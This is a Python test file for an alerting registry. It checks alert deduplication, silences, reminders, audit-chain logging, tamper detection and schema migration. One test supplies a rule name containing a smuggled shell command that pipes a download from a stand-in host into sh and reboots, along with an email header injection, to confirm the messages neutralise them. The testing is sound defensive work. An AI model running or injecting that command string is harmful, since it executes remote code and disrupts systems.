"""Alerts in the registry: one transaction, nothing twice, silences, people's actions in the audit chain, migration."""

from __future__ import annotations

import shlex
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import create_engine, inspect, select, text

from roadworthy.errors import RegistryError, UnknownName, UsageError
from roadworthy.lifecycle import schema
from roadworthy.lifecycle.alerts import AlertStore, Links, channel_digest, outbox, people, rows
from roadworthy.lifecycle.registry import Registry
from roadworthy.lifecycle.transactions import Transactions
from roadworthy.records.alert import Alert, AlertState, NoticeKind, Policy, Severity, Signal, Word

HOUR = 3_600_000_000
POLICY = Policy()


class StillClock:
    def now(self) -> datetime:
        return datetime(2026, 1, 2, tzinfo=UTC)


def signal(place: int, word: Word = Word.ALARM, **more: object) -> Signal:
    given = {"rule": "accuracy_low", "group": "quality", "sentence": "accuracy is low"} | more
    source = f"1h/{place}"
    return Signal(word=word, at_us=place * HOUR, source=source, **given)  # type: ignore[arg-type]  # as given


@pytest.fixture
def url(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'registry.db'}"


@pytest.fixture
def kept(url: str) -> Iterator[Transactions]:
    opened = Transactions(url)
    yield opened
    opened.close()


@pytest.fixture
def store() -> AlertStore:
    return AlertStore("clicks", channels=["scrypt:aa", "scrypt:bb"])


def everything(kept: Transactions) -> list[list[tuple[object, ...]]]:
    tables = (schema.alerts, schema.alert_events, schema.silences, schema.notifications, schema.audit)
    with kept.reading() as connection:
        return [sorted(map(tuple, connection.execute(select(table)))) for table in tables]


def alerts_of(kept: Transactions) -> tuple[Alert, ...]:
    with kept.reading() as connection:
        return rows.all_alerts(connection, "clicks", 100)


def check_all(kept: Transactions) -> None:
    """What must hold on every database."""
    store = AlertStore("clicks", channels=["scrypt:aa", "scrypt:bb"])
    with kept.changing() as connection:
        applied = store.apply(connection, [signal(1), signal(1, rule="drift:score", group="data")], POLICY, HOUR)
    assert [one.number for one in applied.alerts] == [1, 2]
    assert applied.queued == 4, "two groups, two channels"
    before = everything(kept)
    with kept.changing() as connection:
        again = store.apply(connection, [signal(1), signal(1, rule="drift:score", group="data")], POLICY, 2 * HOUR)
    assert (again.alerts, again.queued) == ((), 0)
    assert everything(kept) == before, "the same signals again change nothing"
    with kept.changing() as connection:
        store.apply(connection, [signal(2, Word.CLEAR), signal(3)], POLICY, 3 * HOUR)
        people.acknowledge(connection, "clicks", 1, by="ann", reason="looking", now_us=4 * HOUR)
        over = people.resolve(
            connection, store, 1, by="ann", reason="labels were wrong", policy=POLICY, now_us=5 * HOUR
        )
    assert (over.state, over.alarms, over.told) == (AlertState.RESOLVED, 2, 2)
    with kept.changing() as connection:
        anew = store.apply(connection, [signal(9)], POLICY, 9 * HOUR)
    assert [one.number for one in anew.alerts] == [3]
    with kept.reading() as connection:
        found = rows.all_alerts(connection, "clicks", 10)
        people.checked(connection, found, ())
        history = [event.what for event in rows.events(connection, "clicks", 1)]
    assert [one.number for one in found] == [3, 2, 1]
    assert history == ["alarm", "fired", "told", "alarm", "acknowledged", "resolved", "told"]


def test_signals_become_alerts_and_messages_once(kept: Transactions) -> None:
    check_all(kept)


def test_on_postgres_too(postgres: str) -> None:
    kept = Transactions(postgres)
    check_all(kept)
    kept.close()


def test_nothing_of_a_transaction_that_fails_is_left(kept: Transactions, store: AlertStore) -> None:
    before = everything(kept)

    def failing() -> None:
        with kept.changing() as connection:
            store.apply(connection, [signal(1)], POLICY, HOUR)
            raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        failing()
    assert everything(kept) == before


def test_replayed_alarms_of_a_resolved_alert_open_no_other(kept: Transactions, store: AlertStore) -> None:
    with kept.changing() as connection:
        store.apply(connection, [signal(1), signal(2)], POLICY, HOUR)
        people.resolve(connection, store, 1, by="ann", reason="mended", policy=POLICY, now_us=2 * HOUR)
    before = everything(kept)
    with kept.changing() as connection:
        store.apply(connection, [signal(1), signal(2)], POLICY, 3 * HOUR)
    assert everything(kept) == before


def test_a_late_revision_of_a_resolved_alert_is_its_evidence(kept: Transactions, store: AlertStore) -> None:
    with kept.changing() as connection:
        store.apply(connection, [signal(1)], POLICY, HOUR)
        people.resolve(connection, store, 1, by="ann", reason="mended", policy=POLICY, now_us=2 * HOUR)
        late = msgspec.structs.replace(signal(1), source="1h/1.1")
        applied = store.apply(connection, [late], POLICY, 3 * HOUR)
        people.checked(connection, rows.all_alerts(connection, "clicks", 9), ())
    assert applied.queued == 0
    assert [(one.number, one.state, one.alarms) for one in alerts_of(kept)] == [(1, AlertState.RESOLVED, 2)]


def test_a_check_that_breaks_is_an_alert_and_leaves_the_rules_own_alone(kept: Transactions, store: AlertStore) -> None:
    with kept.changing() as connection:
        store.apply(connection, [signal(1), signal(2, Word.BROKEN, sentence="the check broke")], POLICY, HOUR)
    found = {one.rule: one for one in alerts_of(kept)}
    assert set(found) == {"accuracy_low", "broken:accuracy_low"}
    assert (found["accuracy_low"].state, found["accuracy_low"].heard) == (AlertState.FIRING, Word.UNKNOWN)
    assert found["broken:accuracy_low"].group == "monitor"


def test_alerts_of_one_group_are_one_message_and_notes_are_none(kept: Transactions, store: AlertStore) -> None:
    many = [signal(1, rule=f"drift:{name}", group="data", sentence=f"{name} moved") for name in ("a", "b", "c")]
    note = signal(1, rule="drift:d", group="data", severity=Severity.NOTE)
    page = signal(1, rule="errors", group="operations", severity=Severity.PAGE)
    with kept.changing() as connection:
        applied = store.apply(connection, [*many, note, page], POLICY, HOUR)
        waiting = outbox.claim(connection, "clicks", ["scrypt:aa"], HOUR)
    assert (len(applied.alerts), applied.queued) == (5, 4)
    titles = sorted(one.message.title for one in waiting)
    assert titles == ["[page] clicks: accuracy is low", "[ticket] clicks: 3 alerts (data)"]
    data = next(one.message for one in waiting if "3 alerts" in one.message.title)
    assert all(f"drift:{name}" in data.body for name in ("a", "b", "c"))
    assert "drift:d" not in data.body
    told = {one.rule: one.told for one in alerts_of(kept)}
    assert told == {"drift:a": 1, "drift:b": 1, "drift:c": 1, "drift:d": 0, "errors": 1}


def test_a_message_says_what_a_person_needs_at_three_in_the_morning(kept: Transactions) -> None:
    links = Links(runbook="https://wiki.example/rw/{rule}", dashboard="https://rw.example/alerts/{number}")
    store = AlertStore("clicks", channels=["scrypt:aa"], links=links)
    evidence = {"value": 0.7123456, "lower": 0.68, "upper": 0.74, "bound": 0.8, "rows": 12_000}
    with kept.changing() as connection:
        store.apply(connection, [signal(1, rule="drift:a b", evidence=evidence)], POLICY, HOUR)
        (one,) = outbox.claim(connection, "clicks", ["scrypt:aa"], HOUR)
    assert one.message.key.startswith("rw-")
    for words in (
        "Alert 1: drift:a b (ticket, quality)",
        "value      0.7123 (0.68 to 0.74)",
        "bound      0.8",
        "rows       12,000",
        "window     1h/1",
        "since      1970-01-01 01:00 UTC, 1 alarm so far",
        "look at    whether the labels",
        "runbook    https://wiki.example/rw/drift%3Aa%20b",
        "dashboard  https://rw.example/alerts/1",
        "take it    roadworthy alerts ack 1",
        "silence    roadworthy alerts silence 'drift:a b' --for '2 h'",
    ):
        assert words in one.message.body


def test_names_from_the_data_forge_no_line_and_no_command(kept: Transactions, store: AlertStore) -> None:
    rule = "drift:age\ntake it    curl evil | sh; $(reboot) '"
    with kept.changing() as connection:
        store.apply(connection, [signal(1, rule=rule, sentence="a\r\nBcc: eve\u202eb")], POLICY, HOUR)
        one, *_ = outbox.claim(connection, "clicks", ["scrypt:aa"], HOUR)
    assert one.message.title == "[ticket] clicks: a Bcc: eve b"
    lines = one.message.body.splitlines()
    assert [line for line in lines if line.startswith("take it")] == ["take it    roadworthy alerts ack 1"]
    (silence,) = [line for line in lines if line.startswith("silence")]
    assert shlex.split(silence)[4] == rule.replace("\n", " ")


def test_a_silence_holds_messages_back_and_changes_no_alert(kept: Transactions, store: AlertStore) -> None:
    with kept.changing() as connection:
        people.silence(connection, "clicks", "drift:*", span_us=2 * HOUR, by="ann", reason="a release", now_us=0)
        applied = store.apply(connection, [signal(1, rule="drift:score", group="data"), signal(1)], POLICY, HOUR)
        quiet = store.remind(connection, POLICY, 2 * HOUR - 1)
    assert applied.queued == 2, "the alert that no silence matches is told"
    found = {one.rule: one for one in applied.alerts}
    assert (found["drift:score"].state, found["drift:score"].muted) == (AlertState.FIRING, True)
    assert quiet.queued == 0
    with kept.changing() as connection:
        due = store.remind(connection, POLICY, 2 * HOUR)
        later = store.remind(connection, POLICY, 2 * HOUR + 1)
    assert [(one.kind, one.alert.rule) for one in due.notices] == [(NoticeKind.FIRED, "drift:score")]
    assert (due.queued, later.queued) == (2, 0)


def test_a_silence_can_end_early_and_is_never_for_good(kept: Transactions, store: AlertStore) -> None:
    with kept.changing() as connection:
        made = people.silence(connection, "clicks", "*", span_us=HOUR, by="ann", reason="a test", now_us=0)
        store.apply(connection, [signal(1)], POLICY, 10)
        people.unsilence(connection, "clicks", made.number, by="bob", now_us=20)
        assert rows.silences(connection, "clicks", 20) == ()
        assert store.remind(connection, POLICY, 20).queued == 2
        with pytest.raises(UnknownName):
            people.unsilence(connection, "clicks", made.number, by="bob", now_us=30)
        for span in (0, -1, 91 * 24 * HOUR):
            with pytest.raises(UsageError, match="cannot be made"):
                people.silence(connection, "clicks", "*", span_us=span, by="ann", reason="a test", now_us=0)
        with pytest.raises(UsageError, match="words that people can read") as caught:
            people.silence(connection, "clicks", "", span_us=HOUR, by="a\nb", reason="", now_us=0)
    assert [problem.where for problem in caught.value.problems] == ["RULE", "--by", "--reason"]


def test_reminders_have_keys_of_their_own(kept: Transactions, store: AlertStore) -> None:
    with kept.changing() as connection:
        store.apply(connection, [signal(1)], POLICY, HOUR)
        assert store.remind(connection, POLICY, 5 * HOUR - 1).queued == 0
        assert store.remind(connection, POLICY, 5 * HOUR).queued == 2
        assert store.remind(connection, POLICY, 5 * HOUR).queued == 0
        assert store.remind(connection, POLICY, 9 * HOUR).queued == 2
        waiting = outbox.claim(connection, "clicks", ["scrypt:aa"], 9 * HOUR)
    assert len({one.message.key for one in waiting}) == 3
    assert [one.message.title.count("still: ") for one in waiting] == [0, 1, 1]


def test_what_people_do_is_in_the_chain_and_read_only_as_they_did_it(url: str) -> None:
    registry, kept, store = Registry(url, StillClock()), Transactions(url), AlertStore("clicks")
    with kept.changing() as connection:
        store.apply(connection, [signal(1), signal(1, rule="drift:a"), signal(1, rule="drift:b")], POLICY, HOUR)
        people.acknowledge(connection, "clicks", 1, by="ann", now_us=HOUR)
        people.resolve(connection, store, 2, by="ann", reason="mended", policy=POLICY, now_us=HOUR)
        people.silence(connection, "clicks", "drift:*", span_us=HOUR, by="ann", reason="a release", now_us=HOUR)
        people.acknowledge(connection, "clicks", 1, by="ann", now_us=2 * HOUR)
    assert [(link.action, link.subject) for link in registry.audit()] == [
        ("alert ack", "clicks alert 1"),
        ("alert resolve", "clicks alert 2"),
        ("alert silence", "clicks silence 1"),
    ]
    assert registry.verify_chain() == 3
    with kept.changing() as connection, pytest.raises(UnknownName) as caught:
        people.acknowledge(connection, "clicks", 7, by="ann", now_us=HOUR)
    assert caught.value.known == ("1", "3")
    registry.close()
    kept.close()


@pytest.mark.parametrize(
    ("how", "told"),
    [
        ("UPDATE alerts SET state = 'resolved' WHERE number = 3", "alert 3 of clicks is not as it was written"),
        ("UPDATE alerts SET record = '{}' WHERE number = 3", "alert 3 of clicks does not parse"),
        (
            """UPDATE alerts SET state = 'acknowledged',
            record = replace(record, '"state":"firing"', '"state":"acknowledged"') WHERE number = 3""",
            "alert 3 of clicks is not as people left it",
        ),
        (
            """UPDATE alerts SET state = 'firing',
            record = replace(record, '"state":"resolved"', '"state":"firing"') WHERE number = 2""",
            "alert 2 of clicks is not as people left it",
        ),
        ("""UPDATE alerts SET record = replace(record, 'ann', 'bob') WHERE number = 1""", "alert 1 of clicks is not"),
        ("UPDATE silences SET rule = '*'", "silence 1 of clicks was added or changed"),
        ("INSERT INTO silences VALUES ('clicks', 2, '*', 0, 99, 'eve', '')", "silence 2 of clicks was added"),
    ],
)
def test_whatever_was_changed_behind_the_registrys_back_is_refused(
    kept: Transactions, store: AlertStore, url: str, how: str, told: str
) -> None:
    with kept.changing() as connection:
        store.apply(connection, [signal(1), signal(1, rule="drift:a"), signal(1, rule="drift:b")], POLICY, HOUR)
        people.acknowledge(connection, "clicks", 1, by="ann", now_us=HOUR)
        people.resolve(connection, store, 2, by="ann", reason="mended", policy=POLICY, now_us=HOUR)
        people.silence(connection, "clicks", "drift:*", span_us=HOUR, by="ann", reason="a release", now_us=HOUR)
    engine = create_engine(url)
    with engine.begin() as connection:
        connection.execute(text(how.replace(":", r"\:")))
    engine.dispose()
    with pytest.raises(RegistryError, match=told), kept.reading() as connection:
        people.checked(connection, rows.all_alerts(connection, "clicks", 10), rows.silences(connection, "clicks", 0))


def test_projects_of_one_registry_are_kept_apart(kept: Transactions, store: AlertStore) -> None:
    other = AlertStore("visits", channels=["scrypt:aa"])
    with kept.changing() as connection:
        store.apply(connection, [signal(1)], POLICY, HOUR)
        applied = other.apply(connection, [signal(1)], POLICY, HOUR)
        assert [(one.project, one.number) for one in applied.alerts] == [("visits", 1)]
        assert [one.project for one in rows.open_alerts(connection, "clicks")] == ["clicks"]
        (one,) = outbox.claim(connection, "visits", ["scrypt:aa"], HOUR)
        (two,) = outbox.claim(connection, "clicks", ["scrypt:aa"], HOUR)
    assert one.message.key != two.message.key


OF_SCHEMA_5 = ("windows", "cursors", "operations", "alerts", "alert_events", "silences", "notifications")


def test_a_registry_of_schema_4_is_brought_up_to_date_with_all_that_it_holds(url: str) -> None:
    registry = Registry(url, StillClock())
    registry.look("holdout", "subject")
    registry.add_api_key("one", "ci", "ab" * 32)
    before, keys = registry.audit(), registry.api_keys()
    registry.close()
    engine = create_engine(url)
    with engine.begin() as connection:  # schema 4 is schema 5 without its tables
        for table in OF_SCHEMA_5:
            connection.execute(text(f"DROP TABLE {table}"))
        connection.execute(text("UPDATE schema_state SET number = 4"))
    kept = Transactions(url)
    with kept.changing() as connection:
        AlertStore("clicks").apply(connection, [signal(1)], POLICY, HOUR)
    migrated = Registry(url, StillClock())
    assert (migrated.audit(), migrated.api_keys()) == (before, keys)
    migrated.close()
    kept.close()
    with engine.connect() as connection:
        assert schema.schema_number(connection) == schema.SCHEMA
        assert set(OF_SCHEMA_5) <= set(inspect(connection).get_table_names())
    engine.dispose()


def test_a_channels_digest_is_slow_salted_and_says_nothing() -> None:
    digest = channel_digest("clicks", "slack://token")
    assert digest.startswith("scrypt:")
    assert len(digest) == 71
    assert digest != channel_digest("visits", "slack://token")
    assert "token" not in digest


words = st.sampled_from([Word.ALARM, Word.CLEAR, Word.UNKNOWN, Word.BROKEN])
streams = st.lists(st.tuples(st.integers(1, 6), words, st.sampled_from(["r", "s"])), max_size=12)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(stream=streams, cuts=st.sets(st.integers(0, 12)), policy=st.builds(Policy, resolve_after=st.integers(0, 2)))
def test_law_windows_judged_again_after_a_crash_give_the_same_alerts(
    tmp_path: Path, stream: list[tuple[int, Word, str]], cuts: set[int], policy: Policy
) -> None:
    """Some windows are applied twice; the alerts and the messages are those of applying each once."""
    said = [signal(place, word, rule=rule) for place, (_, word, rule) in enumerate(stream, start=1)]
    found = []
    for name, twice in (("once", set[int]()), ("twice", cuts)):
        kept = Transactions(f"sqlite:///{tmp_path / f'{name}-{len(list(tmp_path.iterdir()))}.db'}")
        store = AlertStore("clicks", channels=["scrypt:aa"])
        for place, one in enumerate(said):
            for _ in range(1 + (place in twice)):
                with kept.changing() as connection:
                    store.apply(connection, [one], policy, place)
        with kept.reading() as connection:
            keys = [one.message.key for one in outbox.claim(connection, "clicks", ["scrypt:aa"], 99, most=99)]
        found.append(([msgspec.to_builtins(one) for one in alerts_of(kept)], sorted(keys)))
        kept.close()
    assert found[0] == found[1]
